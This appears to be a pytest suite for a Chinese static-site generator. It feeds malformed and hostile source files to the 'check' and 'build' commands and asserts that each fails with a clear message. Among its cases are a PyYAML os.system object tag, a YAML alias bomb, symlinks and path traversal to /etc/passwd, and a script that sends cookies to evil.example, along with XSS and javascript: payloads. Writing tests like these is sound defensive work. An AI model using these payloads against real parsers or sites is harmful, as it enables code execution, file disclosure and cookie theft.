"""Hostile input corpus: broken or malicious source files, each applied to a fresh mini project.

Every case must end the same way for `portal check` and for `portal build`: exit code 1,
no traceback, a Chinese ``file:line: …`` message naming the file (and line) to fix, and —
for build — the already published site/ byte-identical, nothing new in the project and no
staging directories left behind.

A case is a small function that mutates the project and returns the line the first error
must name (None when no single line is meaningful, e.g. a file that cannot be read).
Script injection and personal data are covered by their own tests, not here.
"""

from __future__ import annotations

import codecs
import hashlib
import os
import re
import shutil
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Callable, Optional

import pytest

from conftest import edit, line_of, make_project
from generator.cli import main
from generator.source.load import MAX_SOURCE_TEXT

TODAY = "2019-03-04"
SITE = "campaigns.yaml"
CAMPAIGN = "content/campaigns/demo-2019.yaml"
STATION = "content/stations/square.yaml"
REGION = "content/regions/democity.yaml"
EXEMPLAR = "content/exemplars/li-xiaolei.md"
ATTACHMENT = "content/attachments/demo-2019.txt"
SUMMARY = re.compile(r"^共 (\d+) 个错误，未生成任何文件。请按提示修改后重新运行 check。$")
CHINESE = re.compile(r"[\u4e00-\u9fff]")
FIFTY_MB = 50 * 1024 * 1024


@dataclass(frozen=True)
class Case:
    mutate: Callable[[Path], Optional[int]]  # returns the expected line of the first error
    file: str  # the first error's file, relative to the project
    contains: str  # a fragment of the expected message (anywhere in the report)


CASES: dict[str, Case] = {}
XFAIL: dict[str, str] = {}  # case id → why it fails today (fix outside this test's reach)


def case(case_id: str, file: str, contains: str, xfail: Optional[str] = None):
    def register(mutate):
        assert case_id not in CASES, case_id
        CASES[case_id] = Case(mutate, file, contains)
        if xfail:
            XFAIL[case_id] = xfail
        return mutate
    return register


# --- helpers that change a fixture file the way a careless or hostile editor would ---------


def text_of(project: Path, relative: str) -> str:
    return (project / relative).read_text(encoding="utf-8")


def write(project: Path, relative: str, text: str) -> None:
    path = project / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def replace_line(project: Path, relative: str, needle: str, new_line: str) -> int:
    """Replace the one line containing ``needle``; return its number."""
    number = line_of(project, relative, needle)
    lines = text_of(project, relative).splitlines(keepends=True)
    lines[number - 1] = new_line + "\n"
    (project / relative).write_text("".join(lines), encoding="utf-8")
    return number


def insert_after(project: Path, relative: str, needle: str, new_text: str) -> int:
    """Insert lines after the one containing ``needle``; return the first inserted line."""
    number = line_of(project, relative, needle)
    lines = text_of(project, relative).splitlines(keepends=True)
    lines[number:number] = [new_text if new_text.endswith("\n") else new_text + "\n"]
    (project / relative).write_text("".join(lines), encoding="utf-8")
    return number + 1


def append(project: Path, relative: str, new_text: str) -> int:
    """Append lines; return the first appended line."""
    path = project / relative
    text = path.read_text(encoding="utf-8")
    path.write_text(text + new_text, encoding="utf-8")
    return text.count("\n") + 1


def huge_file(path: Path, head: bytes, filler: bytes, size: int) -> None:
    """Write ``size`` bytes quickly: one head, then the filler repeated in 1 MB chunks."""
    chunk = filler * (1024 * 1024 // len(filler))
    with path.open("wb") as handle:
        handle.write(head)
        written = len(head)
        while written < size:
            handle.write(chunk)
            written += len(chunk)


# --- YAML syntax ------------------------------------------------------------------------


@case("yaml-unclosed-bracket", CAMPAIGN, "方括号“[”没有闭合")
def _(p):
    edit(p, CAMPAIGN, "    leads: [市文明办, 团市委]\n", "    leads: [市文明办, 团市委\n")
    return line_of(p, CAMPAIGN, "    leads: [市文明办, 团市委")


@case("yaml-unclosed-brace", CAMPAIGN, "花括号“{”没有闭合")
def _(p):
    edit(p, CAMPAIGN, "note: 3·5当天}", "note: 3·5当天")
    return line_of(p, CAMPAIGN, "note: 3·5当天")


@case("yaml-unclosed-quote", STATION, "引号没有闭合")
def _(p):
    return replace_line(p, STATION, "address:", 'address: "云南省示例市示例区中心广场')


@case("yaml-bad-indentation-list-item", REGION, "缩进")
def _(p):
    return replace_line(p, REGION, "- id: districts", " - id: districts")


@case("yaml-bad-indentation-mapping", CAMPAIGN, "缩进")
def _(p):
    return replace_line(p, CAMPAIGN, "  end: 2019-04-30", "    end: 2019-04-30")


@case("yaml-stray-colon-in-value", CAMPAIGN, "请给整个值加引号")
def _(p):
    return replace_line(p, CAMPAIGN, "slogan:", "slogan: 活动主题: 人人学雷锋")


@case("yaml-tab-indentation", REGION, "Tab")
def _(p):
    return replace_line(p, REGION, "- id: tuanshiwei", "\t- id: tuanshiwei")


@case("yaml-two-documents", STATION, "“---”")
def _(p):
    return append(p, STATION, "---\nname: 另一个广场\n")


@case("yaml-windows-path-in-double-quotes", CAMPAIGN, "反斜杠")
def _(p):
    return replace_line(p, CAMPAIGN, "file: demo-2019.txt", '  file: "C:\\Users\\文明办\\demo-2019.txt"')


@case("yaml-value-starting-with-reserved-character", STATION, "加引号")
def _(p):
    return replace_line(p, STATION, "district:", "district: @示例区")


@case("yaml-key-that-is-a-list", STATION, "键必须是文本")
def _(p):
    return append(p, STATION, "? [name, kind]\n: 广场\n")


# --- features editors never need and attackers love --------------------------------------


@case("yaml-python-object-tag", STATION, "不支持 YAML 标签")
def _(p):
    return replace_line(p, STATION, "kind:", 'kind: !!python/object/apply:os.system ["echo pwned"]')


@case("yaml-timestamp-tag-with-impossible-date", CAMPAIGN, "不支持 YAML 标签")
def _(p):
    # An explicit !!timestamp would reach PyYAML's date constructor: ValueError, a traceback.
    return replace_line(p, CAMPAIGN, "issued:", "issued: !!timestamp 2019-02-30")


@case("yaml-alias-bomb", STATION, "不支持 YAML 锚点")
def _(p):
    bomb = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    bomb += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    return insert_after(p, STATION, "name:", "\n".join(bomb))


@case("yaml-alias-in-front-matter", EXEMPLAR, "不支持 YAML 锚点")
def _(p):
    replace_line(p, EXEMPLAR, "stations:", "stations: &places [square]")
    return line_of(p, EXEMPLAR, "stations: &places")


@case("yaml-merge-key", STATION, "未知字段“<<”")
def _(p):
    return append(p, STATION, "<<: {hours: 全天}\n")


@case("yaml-deep-flow-nesting", STATION, "嵌套层数超过")
def _(p):
    # 10,000 nested lists, 1,000 brackets a line (one 20,000-character line would hit the line limit).
    opening = "".join("  " + "[" * 1_000 + "\n" for _ in range(10))
    closing = "".join("  " + "]" * 1_000 + "\n" for _ in range(10))
    replace_line(p, STATION, "services:", "services:\n" + opening + closing.rstrip("\n"))
    return line_of(p, STATION, "services:") + 1


@case("yaml-deep-block-nesting", STATION, "嵌套层数超过")
def _(p):
    replace_line(p, STATION, "services:", "services:\n  " + "- " * 5_000 + "便民服务")
    return line_of(p, STATION, "services:") + 1


@case("yaml-integer-with-5000-digits", CAMPAIGN, "不是可用的数字")
def _(p):
    # Python refuses to convert integers this long (int max str digits): ValueError, a traceback.
    return replace_line(p, CAMPAIGN, "value: 20", "    value: " + "9" * 5_000)


@case("yaml-infinite-number", CAMPAIGN, "不是可用的数字")
def _(p):
    return replace_line(p, CAMPAIGN, "value: 20", "    value: .inf")


@case("number-that-is-not-finite-as-text", CAMPAIGN, "不能是 inf、nan")
def _(p):
    return replace_line(p, CAMPAIGN, "value: 20", "    value: nan")


@case("rrule-every-second", CAMPAIGN, "重复规则")
def _(p):
    return replace_line(p, CAMPAIGN, "rrule: FREQ=WEEKLY;BYDAY=SA", "      rrule: FREQ=SECONDLY")


# --- encodings and characters -------------------------------------------------------------


@case("gbk-encoded-file", STATION, "GBK")
def _(p):
    (p / STATION).write_bytes(text_of(p, STATION).encode("gbk"))
    return 1


@case("gbk-line-pasted-into-utf8-file", CAMPAIGN, "按 GBK 读出来是“body: 在中心广场开展志愿服务。”")
def _(p):
    number = line_of(p, CAMPAIGN, "body: 在中心广场开展。")
    lines = (p / CAMPAIGN).read_bytes().split(b"\n")
    lines[number - 1] = "    body: 在中心广场开展志愿服务。".encode("gbk")
    (p / CAMPAIGN).write_bytes(b"\n".join(lines))
    return number


@case("utf16-with-bom", STATION, "UTF-16")
def _(p):
    (p / STATION).write_bytes(codecs.BOM_UTF16_LE + text_of(p, STATION).encode("utf-16-le"))
    return 1


@case("utf16-without-bom", REGION, "UTF-16")
def _(p):
    (p / REGION).write_bytes(text_of(p, REGION).encode("utf-16-le"))
    return 1


@case("null-byte", CAMPAIGN, "U+0000")
def _(p):
    return replace_line(p, CAMPAIGN, "short_title:", "short_title: 示例市\x002019年学雷锋活动")


@case("word-line-break-control-character", CAMPAIGN, "U+000B")
def _(p):
    return replace_line(p, CAMPAIGN, "introduction:", "introduction: 方案概述。\x0b第二段。")


@case("escape-character-in-markdown-body", EXEMPLAR, "U+001B")
def _(p):
    return append(p, EXEMPLAR, "终端颜色\x1b[31m红色\x1b[0m\n")


@case("extremely-long-line", CAMPAIGN, "超过上限 20000")
def _(p):
    return replace_line(p, CAMPAIGN, "requirements:", "requirements: " + "各区按月报送。" * 5_000)


# --- empty, missing, and the wrong kind of file system entry -----------------------------------


@case("empty-station-file", STATION, "没有内容")
def _(p):
    write(p, STATION, "")
    return 1


@case("comment-only-region-file", REGION, "没有内容")
def _(p):
    write(p, REGION, "# 示例市的单位稍后补充\n")
    return 1


@case("top-level-list-instead-of-mapping", STATION, "现在是列表")
def _(p):
    write(p, STATION, "- name: 中心学雷锋广场\n- kind: 广场\n")
    return 1


@case("campaigns-yaml-missing", SITE, "找不到入口文件")
def _(p):
    (p / SITE).unlink()
    return 1


@case("campaigns-yaml-empty", SITE, "没有内容")
def _(p):
    write(p, SITE, "\n")
    return 1


@case("campaigns-yaml-is-a-directory", SITE, "应为文本文件，现在是一个目录")
def _(p):
    (p / SITE).unlink()
    (p / SITE).mkdir()
    return 1


@case("content-directory-missing", SITE, "没有 content/ 目录")
def _(p):
    shutil.rmtree(p / "content")
    return 1


@case("content-is-a-file", SITE, "content 应为目录")
def _(p):
    shutil.rmtree(p / "content")
    write(p, "content", "这里本应是目录\n")
    return 1


@case("exemplars-folder-is-a-file", "content/exemplars", "应为目录")
def _(p):
    shutil.rmtree(p / "content/exemplars")
    write(p, "content/exemplars", "kind: 最美志愿者\n")
    return 1


@case("directory-named-like-a-station-file", STATION, "这是一个目录")
def _(p):
    (p / STATION).unlink()
    (p / STATION).mkdir()
    return 1


@case("fifo-named-like-a-station-file", "content/stations/pipe.yaml", "特殊文件")
def _(p):
    os.mkfifo(p / "content/stations/pipe.yaml")  # reading it would block forever
    return 1


@case("dangling-symlink-named-like-a-station-file", "content/stations/gone.yaml", "失效的符号链接")
def _(p):
    (p / "content/stations/gone.yaml").symlink_to("deleted.yaml")
    return 1


@case("symlink-loop-under-content", "content/stations/loop.yaml", "链接成环")
def _(p):
    (p / "content/stations/loop.yaml").symlink_to("loop.yaml")
    return 1


@case("wrong-extension", "content/stations/plaza.yml", "扩展名应为 .yaml")
def _(p):
    shutil.copy(p / STATION, p / "content/stations/plaza.yml")
    return 1


# --- size limits -----------------------------------------------------------------------------


@case("yaml-file-of-50-mb", STATION, f"超过上限 {MAX_SOURCE_TEXT}")
def _(p):
    huge_file(p / STATION, b"name: ", "学雷锋".encode() * 100, FIFTY_MB)
    return 1


@case("markdown-file-of-50-mb", EXEMPLAR, f"超过上限 {MAX_SOURCE_TEXT}")
def _(p):
    head = text_of(p, EXEMPLAR).encode()
    huge_file(p / EXEMPLAR, head, "每个周六，她都在广场上为居民量血压。\n".encode(), FIFTY_MB)
    return 1


@case("sparse-file-of-1-gb", STATION, f"超过上限 {MAX_SOURCE_TEXT}")
def _(p):
    # Instant to create, and too big to read: passes only if the size is checked before reading.
    os.truncate(p / STATION, 1024 ** 3)
    return 1


# --- wrong types -------------------------------------------------------------------------------


@case("string-where-list-expected", CAMPAIGN, "应为列表")
def _(p):
    return replace_line(p, CAMPAIGN, "hosts:", "hosts: 市文明办")


@case("list-where-mapping-expected", CAMPAIGN, "“键: 值”形式的映射")
def _(p):
    edit(p, CAMPAIGN, "period:\n  start: 2019-03-01\n  end: 2019-04-30\n", "period: [2019-03-01, 2019-04-30]\n")
    return line_of(p, CAMPAIGN, "period:")


@case("number-for-a-title", STATION, "应为文本")
def _(p):
    return replace_line(p, STATION, "name:", "name: 12345")


@case("mapping-for-a-date", CAMPAIGN, "应为日期")
def _(p):
    return replace_line(p, CAMPAIGN, "issued:", "issued: {year: 2019, month: 2, day: 20}")


@case("number-as-a-key", STATION, "键应为文本")
def _(p):
    return append(p, STATION, "2019: 新建\n")


# --- unknown keys at several levels --------------------------------------------------------------


@case("unknown-key-in-site-settings", SITE, "未知字段“theme”")
def _(p):
    return insert_after(p, SITE, "title: 测试门户", "  theme: 红色")


@case("unknown-key-in-station-location", STATION, "未知字段“altitude”")
def _(p):
    return replace_line(p, STATION, "location:", "location: {lat: 25.04, lon: 102.71, altitude: 1890}")


@case("unknown-key-deep-in-activity-time", CAMPAIGN, "未知字段“notes”")
def _(p):
    edit(p, CAMPAIGN, "note: 3·5当天}", "notes: 3·5当天}")
    return line_of(p, CAMPAIGN, "notes: 3·5当天")


@case("unknown-key-in-front-matter", EXEMPLAR, "未知字段“tags”")
def _(p):
    return insert_after(p, EXEMPLAR, "sample: true", "tags: [志愿者, 广场]")


# --- duplicate keys and ids ------------------------------------------------------------------------


@case("duplicate-top-level-key", STATION, "重复的键“name”")
def _(p):
    return append(p, STATION, "name: 中心广场（重复）\n")


@case("duplicate-key-in-flow-mapping", CAMPAIGN, "重复的键“date”")
def _(p):
    edit(p, CAMPAIGN, "when: {date: 2019-03-05, note: 3·5当天}", "when: {date: 2019-03-05, date: 2019-03-06}")
    return line_of(p, CAMPAIGN, "date: 2019-03-06")


@case("duplicate-key-in-front-matter", EXEMPLAR, "重复的键“title”")
def _(p):
    return insert_after(p, EXEMPLAR, "year: 2019", "title: 另一个标题")


@case("duplicate-activity-id", CAMPAIGN, "活动 id“saturday”重复")
def _(p):
    edit(p, CAMPAIGN, "  - id: civilised-april", "  - id: saturday")
    return [i for i, line in enumerate(text_of(p, CAMPAIGN).splitlines(), 1) if "- id: saturday" in line][1]


@case("same-station-in-two-files", STATION, "疑似重复录入")
def _(p):
    # square-copy.yaml sorts first, so the original is reported as the second entry.
    shutil.copy(p / STATION, p / "content/stations/square-copy.yaml")
    return 1


@case("campaign-listed-twice", SITE, "重复列出")
def _(p):
    return insert_after(p, SITE, "- demo-2019", "  - demo-2019")


@case("duplicate-category-id", SITE, "分类 id“monthly”重复")
def _(p):
    edit(p, SITE, "  - id: monthly\n    name: 月度主题活动\n",
         "  - id: monthly\n    name: 月度主题活动\n  - id: monthly\n    name: 月度活动\n")
    return [i for i, line in enumerate(text_of(p, SITE).splitlines(), 1) if "id: monthly" in line][1]


# --- impossible dates and time spans -----------------------------------------------------------------


@case("february-30-in-front-matter", EXEMPLAR, "不是有效日期")
def _(p):
    return replace_line(p, EXEMPLAR, "date:", "date: 2019-02-30")


@case("month-13-in-year-month", CAMPAIGN, "不是有效的月份")
def _(p):
    edit(p, CAMPAIGN, "when: {date: 2019-03-05, note: 3·5当天}", "when: {month: 2019-13}")
    return line_of(p, CAMPAIGN, "2019-13")


@case("date-2019-13-01", CAMPAIGN, "不是有效日期")
def _(p):
    return replace_line(p, CAMPAIGN, "issued:", "issued: 2019-13-01")


@case("activity-ends-before-it-starts", CAMPAIGN, "早于开始日期")
def _(p):
    edit(p, CAMPAIGN, "when: {date: 2019-03-05, note: 3·5当天}", "when: {start: 2019-04-10, end: 2019-04-01}")
    return line_of(p, CAMPAIGN, "start: 2019-04-10")


@case("recurrence-until-before-start", CAMPAIGN, "重复截止日期")
def _(p):
    insert_after(p, CAMPAIGN, "start: 2019-03-02", "      until: 2019-03-01")
    return line_of(p, CAMPAIGN, "when:")  # a rule about the whole mapping: the line of its key


# --- dangling references --------------------------------------------------------------------------


@case("unknown-region", STATION, "未知地区“democty”")
def _(p):
    return replace_line(p, STATION, "region:", "region: democty")


@case("unknown-campaign", EXEMPLAR, "未知方案“demo-2018”")
def _(p):
    return replace_line(p, EXEMPLAR, "campaign:", "campaign: demo-2018")


@case("unknown-unit", CAMPAIGN, "未知单位“团省委”")
def _(p):
    return replace_line(p, CAMPAIGN, "submit_to:", "    submit_to: [团省委]")


@case("unknown-station", EXEMPLAR, "未知站点“plaza”")
def _(p):
    return replace_line(p, EXEMPLAR, "stations:", "stations: [plaza]")


@case("unknown-category", CAMPAIGN, "未知分类“special”")
def _(p):
    return replace_line(p, CAMPAIGN, "category: monthly", "    category: special")


@case("unknown-activity-of-a-story", EXEMPLAR, "未知活动“demo-2019/sunday”")
def _(p):
    return replace_line(p, EXEMPLAR, "activities:", "activities: [demo-2019/sunday]")


@case("unknown-image", EXEMPLAR, "图片“missing.jpg”不存在")
def _(p):
    return insert_after(p, EXEMPLAR, "stations:", "photos:\n  - {src: missing.jpg, alt: 量血压, credit: 某某 摄}") + 1


@case("unknown-attachment", CAMPAIGN, "附件“missing.pdf”不存在")
def _(p):
    return replace_line(p, CAMPAIGN, "file: demo-2019.txt", "  file: missing.pdf")


# --- escaping the project: symlinks and path traversal -------------------------------------------------


@case("station-file-symlinked-to-etc-passwd", STATION, "项目之外")
def _(p):
    (p / STATION).unlink()
    (p / STATION).symlink_to("/etc/passwd")
    return 1


@case("campaigns-yaml-symlinked-to-etc-passwd", SITE, "项目之外")
def _(p):
    (p / SITE).unlink()
    (p / SITE).symlink_to("/etc/passwd")
    return 1


@case("attachment-symlinked-to-etc-passwd", ATTACHMENT, "项目之外")
def _(p):
    (p / ATTACHMENT).unlink()
    (p / ATTACHMENT).symlink_to("/etc/passwd")
    return 1


@case("image-folder-symlinked-to-etc", "content/images", "项目之外")
def _(p):
    (p / "content/images").symlink_to("/etc")
    return 1


@case("content-symlinked-outside-the-project", "content", "项目之外")
def _(p):
    outside = p.parent / "elsewhere"
    shutil.move(p / "content", outside)
    (p / "content").symlink_to(outside)
    return 1


@case("attachment-path-traversal", CAMPAIGN, "路径“../../../etc/passwd”含有“..”")
def _(p):
    return replace_line(p, CAMPAIGN, "file: demo-2019.txt", "  file: ../../../etc/passwd")


@case("attachment-absolute-path", CAMPAIGN, "路径“/etc/passwd”是绝对路径")
def _(p):
    # Before the load-time check, content/attachments/ / "/etc/passwd" is /etc/passwd: published.
    return replace_line(p, CAMPAIGN, "file: demo-2019.txt", "  file: /etc/passwd")


@case("attachment-windows-path", CAMPAIGN, "是 Windows 路径")
def _(p):
    return replace_line(p, CAMPAIGN, "file: demo-2019.txt", "  file: C:\\Windows\\win.ini")


@case("attachment-url-encoded-traversal", CAMPAIGN, "网址编码")
def _(p):
    return replace_line(p, CAMPAIGN, "file: demo-2019.txt", "  file: '%2e%2e/%2e%2e/%2e%2e/etc/passwd'")


@case("photo-path-traversal", EXEMPLAR, "图片“../../../../etc/passwd”不存在或不是图片文件")
def _(p):
    return insert_after(p, EXEMPLAR, "stations:",
                        "photos:\n  - {src: ../../../../etc/passwd, alt: 量血压, credit: 某某 摄}") + 1


@case("photo-absolute-path", EXEMPLAR, "图片“/etc/passwd”不存在或不是图片文件")
def _(p):
    return insert_after(p, EXEMPLAR, "stations:", "photos:\n  - {src: /etc/passwd, alt: 量血压, credit: 某某 摄}") + 1


# --- Markdown front matter -------------------------------------------------------------------------


@case("front-matter-without-closing-line", EXEMPLAR, "元数据（front matter）没有结束")
def _(p):
    write(p, EXEMPLAR, text_of(p, EXEMPLAR).replace("stations: [square]\n---\n", "stations: [square]\n"))
    return 1


@case("front-matter-missing", EXEMPLAR, "缺少以“---”包围的元数据")
def _(p):
    write(p, EXEMPLAR, "每个周六，她都在广场上为居民量血压。\n")
    return 1


@case("empty-markdown-file", EXEMPLAR, "文件是空的")
def _(p):
    write(p, EXEMPLAR, "")
    return 1


@case("front-matter-that-is-a-list", EXEMPLAR, "现在是列表")
def _(p):
    write(p, EXEMPLAR, "---\n- kind: 最美志愿者\n- name: 李晓雷\n---\n正文\n")
    return 2


# --- names, ids and URLs -----------------------------------------------------------------------------


@case("chinese-station-file-name", "content/stations/中心广场.yaml", "会成为网址的一部分")
def _(p):
    write(p, "content/stations/中心广场.yaml", text_of(p, STATION).replace("中心学雷锋广场", "另一个广场"))
    return 1


@case("uppercase-activity-id", CAMPAIGN, "“Saturday”不能用作 id")
def _(p):
    return replace_line(p, CAMPAIGN, "- id: saturday", "  - id: Saturday")


@case("category-id-with-spaces", SITE, "“standing items”不能用作 id")
def _(p):
    return replace_line(p, SITE, "- id: standing", "  - id: standing items")


@case("chinese-unit-id", REGION, "“文明办”不能用作 id")
def _(p):
    return replace_line(p, REGION, "- id: wenmingban", "  - id: 文明办")


@case("story-slug-taken-by-another-story", EXEMPLAR, "网址 exemplars/li-xiaolei/ 已被")
def _(p):
    # copy.md sorts first and claims the URL; the original is the one told to move.
    write(p, "content/exemplars/copy.md", text_of(p, EXEMPLAR).replace("sample: true", "sample: true\nslug: li-xiaolei"))
    return line_of(p, EXEMPLAR, "title:")


@case("two-news-posts-with-the-same-pinyin-url", "content/news/启动仪式（修改版）.md", "已被")
def _(p):
    post = "---\ntitle: 示例市启动学雷锋活动\ndate: 2019-03-05\ncampaign: demo-2019\n---\n正文。\n"
    write(p, "content/news/启动仪式.md", post)
    write(p, "content/news/启动仪式（修改版）.md", post)
    return 2


# --- script injection and personal data (see also test_sanitize.py) --------------------------------------


@case("script-in-story-body", EXEMPLAR, "不允许使用 <script> 标签")
def _(p):
    return append(p, EXEMPLAR, "\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n") + 1


@case("event-handler-in-station-description", STATION, "不允许使用事件属性 onerror=")
def _(p):
    return append(p, STATION, "description: '<img src=x onerror=alert(1)>'\n")


@case("javascript-link-in-activity-body", CAMPAIGN, "不允许的链接地址“javascript:”")
def _(p):
    return replace_line(p, CAMPAIGN, "body: 每周六固定为志愿服务日。", "    body: '[报名](javascript:alert(1))'")


@case("iframe-from-an-unlisted-host", EXEMPLAR, "不允许的 <iframe>")
def _(p):
    return append(p, EXEMPLAR, "\n<iframe src=\"https://evil.example/\"></iframe>\n") + 1


@case("id-card-number-in-a-story", EXEMPLAR, "疑似居民身份证号码")
def _(p):
    return append(p, EXEMPLAR, "\n她的身份证号是 11010519491231002X。\n") + 1


@case("personal-mobile-in-a-contact", CAMPAIGN, "疑似个人手机号码“139****5678”")
def _(p):
    return replace_line(p, CAMPAIGN, 'phone: "0000-0000000"', '    phone: "13912345678"')


# --- the harness ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def built_site(tmp_path_factory) -> Path:
    """The clean mini project built once; each case starts from a copy of its site/."""
    from generator.build import build_site

    project = make_project(tmp_path_factory.mktemp("hostile") / "clean")
    return build_site(project, date.fromisoformat(TODAY))


@pytest.fixture(scope="module")
def published(built_site) -> dict[str, str]:
    """sha256 of every file of the clean build."""
    return {path.relative_to(built_site).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in built_site.rglob("*") if path.is_file()}


@pytest.fixture
def project(tmp_path, built_site) -> Path:
    target = make_project(tmp_path / "mini")
    # Hard links: instant, and a build that wrote into them would show in every later case too.
    shutil.copytree(built_site, target / "site", copy_function=os.link)
    return target


def snapshot(project: Path) -> dict[str, object]:
    """Every entry of the project without following symlinks: site/ files by content, others by stat."""
    entries: dict[str, object] = {}
    for directory, dirs, files in os.walk(project):
        for name in dirs + files:
            path = Path(directory) / name
            relative = path.relative_to(project).as_posix()
            if path.is_symlink():
                entries[relative] = ("link", os.readlink(path))
            elif relative.startswith("site/") and path.is_file():
                entries[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                info = os.lstat(path)
                entries[relative] = ("dir",) if path.is_dir() else (info.st_mode, info.st_size, info.st_mtime_ns)
    return entries


def run(project: Path, command: str, capsys) -> list[str]:
    """Run the CLI; return the error lines without the summary (exit 1, no traceback)."""
    code = main(["--project", str(project), "--today", TODAY, command])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err + captured.out
    assert code == 1, f"{command} exited {code}: {captured.out}{captured.err}"
    lines = captured.err.strip().splitlines()
    summary = SUMMARY.match(lines[-1])
    assert summary, lines[-1]
    assert int(summary.group(1)) == len(lines) - 1
    return lines[:-1]


def assert_clear_report(lines: list[str], expected: Case, line: Optional[int]) -> None:
    number = str(line) if line is not None else r"\d+"
    where = f"{re.escape(expected.file)}:{number}: "
    assert re.match(where, lines[0]), f"first error should be at {expected.file}:{line}, got:\n" + "\n".join(lines)
    for error in lines:
        match = re.match(r"^(.+?):(\d+): (.*)$", error)
        assert match and CHINESE.search(match.group(3)), error
    assert any(expected.contains in error for error in lines), "\n".join(lines)


def _params():
    for case_id, hostile in CASES.items():
        marks = [pytest.mark.xfail(strict=True, reason=XFAIL[case_id])] if case_id in XFAIL else []
        yield pytest.param(hostile, id=case_id, marks=marks)


@pytest.mark.parametrize("hostile", list(_params()))
def test_hostile_input_is_refused_clearly_and_leaves_the_site_alone(project, published, hostile, capsys):
    line = hostile.mutate(project)
    before = snapshot(project)
    assert {k[len("site/"):]: v for k, v in before.items() if k.startswith("site/") and isinstance(v, str)} == published

    assert_clear_report(run(project, "check", capsys), hostile, line)
    assert_clear_report(run(project, "build", capsys), hostile, line)
    # site/ byte-identical, and nothing new: no .portal/, no lock, no staging dir, no manifest change
    assert snapshot(project) == before
    assert not [p.name for p in project.iterdir() if p.name.startswith(".site")]


def test_the_corpus_is_large_enough():
    assert len(CASES) - len(XFAIL) >= 40


# --- accepted: what Windows editors produce and is not a mistake --------------------------------------------


def test_utf8_bom_and_crlf_are_accepted_silently(project, capsys):
    for relative in (STATION, CAMPAIGN, EXEMPLAR, SITE):
        text = text_of(project, relative).replace("\n", "\r\n")
        (project / relative).write_bytes(codecs.BOM_UTF8 + text.encode("utf-8"))
    code = main(["--project", str(project), "--today", TODAY, "check"])
    captured = capsys.readouterr()
    assert (code, captured.err) == (0, "")
    assert captured.out.startswith("检查通过：1 个方案")


def test_symlink_inside_the_project_is_followed(project, capsys):
    """A link that stays inside content/attachments/ is fine (one file shared by two names)."""
    shared = project / "content" / "attachments" / "shared"
    shared.mkdir()
    shutil.move(project / ATTACHMENT, shared / "demo-2019.txt")
    (project / ATTACHMENT).symlink_to(shared / "demo-2019.txt")
    code = main(["--project", str(project), "--today", TODAY, "check"])
    assert (code, capsys.readouterr().err) == (0, "")
